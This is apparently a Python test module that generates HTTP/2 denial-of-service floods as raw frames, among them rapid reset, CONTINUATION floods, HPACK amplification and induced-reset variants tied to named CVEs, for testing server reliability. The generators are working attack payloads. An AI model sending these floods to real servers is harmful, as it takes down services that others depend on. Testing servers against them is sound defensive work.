"""Floods on one HTTP/2 connection. Each is a run of frames; a client need not be right to send it."""

import struct
from collections.abc import Callable, Iterator

from tests.reliability.h2_wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW,
    block,
    frame,
    integer,
)

FRAMES = 20_000
_FIELDS = [
    (b":method", b"GET"),
    (b":scheme", b"http"),
    (b":authority", b"origin.test"),
    (b":path", b"/case/0"),
]
_HEAD = block(_FIELDS)
_POST = block([(b":method", b"POST"), *_FIELDS[1:]])


def _get(stream: int, *, end: bool = True) -> bytes:
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, _HEAD if end else _POST)


def _streams(count: int) -> Iterator[int]:
    return iter(range(1, 2 * count, 2))


def rapid_reset(count: int) -> Iterator[bytes]:
    """B1: a stream is opened and reset at once. CVE-2023-44487."""
    for stream in _streams(count // 2):
        yield _get(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def open_streams(count: int) -> Iterator[bytes]:
    """B1: streams beyond the limit, never read."""
    yield from map(_get, _streams(count))


def made_to_reset(wrong: Callable[[int], bytes]) -> Callable[[int], Iterator[bytes]]:
    """B2: the server is made to reset each stream. CVE-2025-8671."""

    def flood(count: int) -> Iterator[bytes]:
        for stream in _streams(count // 2):
            yield _get(stream, end=False) + wrong(stream)

    return flood


def continuation(count: int) -> Iterator[bytes]:
    """B4: a head that never ends. CVE-2024-27919."""
    yield frame(HEADERS, END_STREAM, 1, _HEAD)
    field = block([(b"x-a", b"b" * 100)])
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, field)


def empty_continuation(count: int) -> Iterator[bytes]:
    """B4: as above, without a byte."""
    yield frame(HEADERS, END_STREAM, 1, _HEAD)
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1)


def hpack_amplification(count: int) -> Iterator[bytes]:
    """B5: a field of 4 kB that stands in the table, named by a byte a time."""
    large = b"\x40" + integer(1, 7) + b"x" + integer(4000, 7) + b"y" * 4000
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, _HEAD + large)
    for stream in range(3, 2 * count // 10, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, _HEAD + b"\xbe" * 8000)


def cookie_crumbs(count: int) -> Iterator[bytes]:
    """B5: ten thousand crumbs in a head, again and again."""
    crumbs = b"\x40" + integer(6, 7) + b"cookie" + integer(3, 7) + b"a=b"
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, _HEAD + crumbs)
    for stream in range(3, 2 * count // 10, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, _HEAD + b"\xbe" * 10_000)


def settings(count: int) -> Iterator[bytes]:
    """B6: settings that ask for an acknowledgement each."""
    for number in range(count):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + number % 2))


def ping(count: int) -> Iterator[bytes]:
    """B6: pings."""
    for number in range(count):
        yield frame(PING, 0, 0, struct.pack(">Q", number))


def priority(count: int) -> Iterator[bytes]:
    """B6: priorities of streams that never were."""
    for stream in _streams(count):
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 7))


def empty_data(count: int) -> Iterator[bytes]:
    """B6: a body of nothing that does not end."""
    yield _get(1, end=False)
    for _ in range(count):
        yield frame(DATA, 0, 1)


def tiny_data(count: int) -> Iterator[bytes]:
    """B6: a body of single bytes."""
    yield _get(1, end=False)
    for _ in range(count):
        yield frame(DATA, 0, 1, b"x")


def zero_window(count: int) -> Iterator[bytes]:
    """B6: answers are asked for that may never be sent."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    yield from map(_get, _streams(count))


def window_drip(count: int) -> Iterator[bytes]:
    """B6: the window grows by a byte a time."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + _get(1)
    for _ in range(count):
        yield frame(WINDOW, 0, 1, struct.pack(">I", 1))


def unknown_frames(count: int) -> Iterator[bytes]:
    """B6: frames of a kind that does not exist."""
    for number in range(count):
        yield frame(0x42, 0xFF, number % 100 * 2 + 1, b"x" * 16)


def resets_of_nothing(count: int) -> Iterator[bytes]:
    """B3: resets and windows of a stream that has ended."""
    yield _get(1)
    for _ in range(count):
        yield frame(WINDOW, 0, 1, struct.pack(">I", 1)) + frame(RST_STREAM, 0, 1, b"\0\0\0\x08")


FLOODS: dict[str, Callable[[int], Iterator[bytes]]] = {
    "rapid reset": rapid_reset,
    "streams beyond the limit": open_streams,
    "made to reset: window overflow": made_to_reset(
        lambda s: frame(WINDOW, 0, s, struct.pack(">I", 0x7FFFFFFF))
    ),
    "made to reset: increment of zero": made_to_reset(lambda s: frame(WINDOW, 0, s, b"\0" * 4)),
    "made to reset: head on a closed stream": made_to_reset(
        lambda s: frame(DATA, END_STREAM, s) + _get(s)
    ),
    "made to reset: data on a closed stream": made_to_reset(
        lambda s: frame(DATA, END_STREAM, s) + frame(DATA, 0, s, b"x")
    ),
    "made to reset: priority of a wrong length": made_to_reset(
        lambda s: frame(PRIORITY, 0, s, b"x")
    ),
    "made to reset: depends on itself": made_to_reset(
        lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s, 1))
    ),
    "CONTINUATION": continuation,
    "empty CONTINUATION": empty_continuation,
    "HPACK amplification": hpack_amplification,
    "cookie crumbs": cookie_crumbs,
    "SETTINGS": settings,
    "PING": ping,
    "PRIORITY": priority,
    "empty DATA": empty_data,
    "DATA of one byte": tiny_data,
    "window of zero": zero_window,
    "WINDOW_UPDATE drip": window_drip,
    "unknown frames": unknown_frames,
    "frames of an ended stream": resets_of_nothing,
}
